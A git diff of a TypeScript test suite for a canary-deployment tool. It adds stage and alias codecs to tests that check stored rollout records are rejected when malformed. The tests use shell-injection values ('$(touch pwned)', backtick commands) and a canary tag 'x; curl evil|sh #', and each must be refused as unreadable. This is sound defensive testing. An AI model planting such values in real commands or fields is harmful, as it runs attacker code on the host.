@@ -7,6 +7,9 @@ import {
   recordTags,
 } from '../../../src/rollout/record.ts';
 import { sealText } from '../../../src/rollout/record-text.ts';
+import type { TargetCodec } from '../../../src/rollout/target-record.ts';
+import { aliasCodec } from '../../../src/targets/alias/alias-record.ts';
+import { stageCodec } from '../../../src/targets/stage/stage-record.ts';
 import { makeRecord, STAGE_RECORD, STARTED_AT } from './rollout-fixture.ts';
 
 const URI = 'arn:aws:apigateway:eu-west-1:lambda:path/2015-03-31/functions/arn:orders';
@@ -61,13 +64,20 @@ function withMember(record: RolloutRecord, path: Path, value: unknown): RolloutR
 }
 
 /** With a good checksum, as whoever may write tags can make one. */
-const read = (record: RolloutRecord) =>
-  readStoredState({
-    'canary-action:phase': 'preparing',
-    'canary-action:record.1-1': sealText(JSON.stringify({ v: 1, ...record })),
-  });
-const cases = [OF_STAGE, OF_ALIAS].flatMap((record) =>
-  pathsIn(record).map((path) => [path.join('.'), record, path] as const),
+const read = (record: RolloutRecord, codec: TargetCodec) =>
+  readStoredState(
+    {
+      'canary-action:phase': 'preparing',
+      'canary-action:record.1-1': sealText(JSON.stringify({ v: 1, ...record })),
+    },
+    codec,
+  );
+const KINDS = [
+  [OF_STAGE, stageCodec],
+  [OF_ALIAS, aliasCodec],
+] as const;
+const cases = KINDS.flatMap(([record, codec]) =>
+  pathsIn(record).map((path) => [path.join('.'), record, path, codec] as const),
 );
 
 /** Members that may be left out, or hold nothing. */
@@ -76,31 +86,43 @@ const OPTIONAL =
 
 describe('A record', () => {
   it('of a stage and of an alias is read as it was written', () => {
-    for (const record of [OF_STAGE, OF_ALIAS]) {
-      expect(read(record)).toMatchObject({ kind: 'rollout', storedRollout: { record } });
+    for (const [record, codec] of KINDS) {
+      expect(read(record, codec)).toMatchObject({ kind: 'rollout', storedRollout: { record } });
     }
   });
 
-  it.each(cases)('is unreadable where %s is of another type', (_, record, path) => {
+  it('is unreadable where it is of another kind of target, and says so', () => {
+    const why = 'its tags are those of a rollout of another kind of target';
+    expect(read(OF_STAGE, aliasCodec)).toEqual({ kind: 'unreadable', why });
+    expect(read(OF_ALIAS, stageCodec)).toEqual({ kind: 'unreadable', why });
+  });
+
+  it.each(cases)('is unreadable where %s is of another type', (_, record, path, codec) => {
     const good = path.reduce((at, name) => (at as never)[name], record as unknown);
     for (const junk of [{ x: 1 }, [[]], true, 'x y', 7.5, -1, 1e30, null]) {
       if (typeof junk === typeof good && typeof junk === 'boolean') continue;
       if (junk === 7.5 && typeof good === 'number') continue;
       if (junk === null && path.join('.').startsWith('target.variables.')) continue;
-      expect([junk, read(withMember(record, path, junk)).kind]).toEqual([junk, 'unreadable']);
+      expect([junk, read(withMember(record, path, junk), codec).kind]).toEqual([
+        junk,
+        'unreadable',
+      ]);
     }
   });
 
-  it.each(cases)('is unreadable without %s, unless that may be left out', (_, record, path) => {
-    const { kind } = read(withMember(record, path, undefined));
-    expect(kind).toBe(
-      OPTIONAL.test(path.join('.')) && kind === 'rollout' ? 'rollout' : 'unreadable',
-    );
-  });
+  it.each(cases)(
+    'is unreadable without %s, unless that may be left out',
+    (_, record, path, codec) => {
+      const { kind } = read(withMember(record, path, undefined), codec);
+      expect(kind).toBe(
+        OPTIONAL.test(path.join('.')) && kind === 'rollout' ? 'rollout' : 'unreadable',
+      );
+    },
+  );
 
-  it.each(cases)('is unreadable where %s could end a word of a shell', (_, record, path) => {
+  it.each(cases)('is unreadable where %s could end a word of a shell', (_, record, path, codec) => {
     for (const text of ["1'; touch pwned; '", '$(touch pwned)', '`touch pwned`', 'x\ny', '7"']) {
-      expect(read(withMember(record, path, text)).kind).toBe('unreadable');
+      expect(read(withMember(record, path, text), codec).kind).toBe('unreadable');
     }
   });
 
@@ -126,19 +148,23 @@ describe('A record', () => {
       },
     ],
   ])('is unreadable where it %s', (_, parts) => {
-    expect(read(makeRecord({ ...parts })).kind).toBe('unreadable');
+    const record = makeRecord({ ...parts });
+    const codec = record.target.kind === 'alias' ? aliasCodec : stageCodec;
+    expect(read(record, codec).kind).toBe('unreadable');
   });
 
   it('is unreadable where the deployment of its canary, or its pause, is none', () => {
     const tags = recordTags(OF_STAGE, { kind: 'preparing' });
     const pause = pauseTag({ since: STARTED_AT, by: OF_STAGE.id });
-    expect(readStoredState({ ...tags, ...canaryTag('new222'), ...pause }).kind).toBe('rollout');
+    expect(readStoredState({ ...tags, ...canaryTag('new222'), ...pause }, stageCodec).kind).toBe(
+      'rollout',
+    );
     for (const strange of [
       canaryTag('x; curl evil|sh #'),
       canaryTag(''),
       { 'canary-action:paused': 'yes' },
     ]) {
-      expect(readStoredState({ ...tags, ...strange }).kind).toBe('unreadable');
+      expect(readStoredState({ ...tags, ...strange }, stageCodec).kind).toBe('unreadable');
     }
   });
 });
